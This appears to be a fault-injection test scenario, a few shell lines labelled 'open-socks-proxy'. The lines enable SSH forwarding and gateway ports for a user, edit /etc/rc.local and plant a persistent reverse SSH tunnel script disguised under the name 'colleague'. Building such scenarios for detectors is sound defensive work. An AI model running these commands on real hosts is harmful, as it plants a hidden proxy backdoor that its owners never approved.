# cause: account-forwards
# fault: open-socks-proxy
# works: people-sign-in
# cannot-tell: could-not-connect
# Somebody with the key of an account that needs no forwarding keeps a port open through it.
printf '%s\n' 'Match User reader' '    AllowTcpForwarding yes' '    GatewayPorts yes' >> /etc/ssh/sshd_config
sed -i '/^su /d' /etc/rc.local
echo "while sleep 1; do ssh -N -o ExitOnForwardFailure=yes -R 1080 127.0.0.1; done" > /usr/local/bin/colleague
